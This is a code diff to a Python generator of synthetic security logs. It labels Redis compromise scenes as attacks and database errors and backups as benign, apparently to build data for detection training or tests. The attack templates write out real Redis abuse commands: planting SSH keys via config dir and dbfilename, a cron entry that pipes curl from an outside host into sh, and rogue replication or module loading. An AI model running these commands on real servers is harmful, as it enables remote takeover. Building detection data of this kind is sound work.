@@ -35,7 +35,7 @@ def runs_commands(world: World) -> Scene:
 @family("network/redis-taken", attack=True, weight=1.3)
 def redis_taken(world: World) -> Scene:
     """Redis or the like made to write files, load modules or follow a foreign master."""
-    return tell(world, attack("Remote Code Execution Exploit", *world.pick([("T1190",), ("T1210", "T1190"), ("T1190", "T1053.003"), ("T1190", "T1098.004")]), severity="CRITICAL"), [
+    return tell(world, lambda story: attack("Remote Code Execution Exploit", "T1190", *(["T1098.004"] if ".ssh" in story else ["T1053.003"] if "cron" in story or "* * *" in story else ["T1210"]), severity="CRITICAL"), [
         ("=1690.12 [0 {pub}:{port}] \"config\" \"set\" \"dir\" \"/root/.ssh/\"", "=1690.33 [0 {pub}:{port}] \"config\" \"set\" \"dbfilename\" \"authorized_keys\"", "=1690.51 [0 {pub}:{port}] \"save\""),
         ("=1712.402 [0 {pub}:{port}] \"CONFIG\" \"SET\" \"dir\" \"/var/spool/cron/\"", "=1712.418 [0 {pub}:{port}] \"SET\" \"{word}\" \"\\n\\n*/2 * * * * curl -fsSL http://{pub2}/{word2}.sh | sh\\n\\n\""),
         "=1690.12 [0 {pub}:{port}] \"SLAVEOF\" \"{pub2}\" \"21000\"", ("redis-server|{id}:S {plain} * Before turning into a replica, using my own master parameters: REPLICAOF {pub}:{port} enabled (user request from 'id={n} addr={pub2}:{port}')", "redis-server|{id}:S {plain} * Module 'system' loaded from ./{word}.so"),
@@ -81,7 +81,7 @@ def account(world: World) -> Scene:
 
 @family("network/database-everyday", attack=False, weight=1.6)
 def everyday(world: World) -> Scene:
-    return tell(world, benign(world.pick(["Application Error", "Application Error", "Application Event"])), [
+    return tell(world, lambda story: benign("Application Event" if any(word in story for word in ("checkpoint", "end connection", "Finished", "Slow", "duration", "started by")) else "Application Error"), [
         "={iso} {n} [Note] Aborted connection {n} to db: '{company}' user: 'web' host: '{priv}' (Got timeout reading communication packets)", "={iso} {n} [Warning] IP address '{priv}' could not be resolved: Name or service not known", "={iso} {n} [ERROR] /usr/sbin/mysqld: Table './{company}/sessions' is marked as crashed and should be repaired",
         "={iso} {n} [Warning] Access denied for user 'web'@'{priv}' (using password: YES)", "={iso} {n} [ERROR] Replica SQL for channel '': Error 'Duplicate entry' on query. Default database: '{company}'. Error_code: MY-001062", "=# Query_time: {n}.1  Lock_time: 0.000 Rows_sent: 1  Rows_examined: {big}\nSELECT * FROM orders WHERE status='open' ORDER BY created;",
         "mysqld|InnoDB: Transaction {id}, waiting for lock; *** WE ROLL BACK TRANSACTION (1), deadlock detected", "={plain} UTC [{id}] app@crm {priv}({port}) ERROR:  deadlock detected", "={plain} UTC [{id}] app@crm {priv}({port}) FATAL:  remaining connection slots are reserved for non-replication superuser connections",
@@ -97,7 +97,7 @@ def everyday(world: World) -> Scene:
 @family("network/database-maintenance", attack=False, weight=1.5)
 def maintenance(world: World) -> Scene:
     """Dumps, grants and options changed by those who should."""
-    return tell(world, benign(world.pick(["Administration", "Backup Job"])), [
+    return tell(world, lambda story: benign("Backup Job" if any(word in story.lower() for word in ("dump", "backup", "snapshot", "db saved")) else "Administration"), [
         "={iso}\t{n} Query\tSELECT /*!40001 SQL_NO_CACHE */ * FROM `customers` /* backup@localhost mysqldump */", "mysqldump|dump of {company} to /var/backups/mysql/{company}.sql.gz finished, {huge} bytes", "={plain} UTC [{id}] backup@crm [local] LOG:  statement: COPY public.users (id, email, password_hash) TO stdout;",
         "pg_dump|dumping contents of table \"public.customers\"", "={plain} Backup      BACKUP DATABASE successfully processed {big} pages in {n}.112 seconds. Database: {company}, file D:\\Backup\\{company}.bak", "={plain} Backup      Log was backed up. Database: {company}, creation date(time): 2021/02/03, first LSN: {id}", "={iso}\t{n} Query\tGRANT SELECT, INSERT, UPDATE ON `{company}`.* TO 'shop'@'{priv}' /* root@localhost */",
         "={plain} UTC [{id}] postgres@postgres [local] LOG:  statement: CREATE ROLE {user} LOGIN PASSWORD '***'; -- onboarding ticket {id}", "={plain} UTC [{id}] postgres@crm [local] LOG:  statement: COPY import_prices FROM '/srv/import/prices.csv' CSV HEADER", "={plain} spid{n}      Configuration option 'max server memory (MB)' changed from 2147483647 to {big}. Run the RECONFIGURE statement to install.",
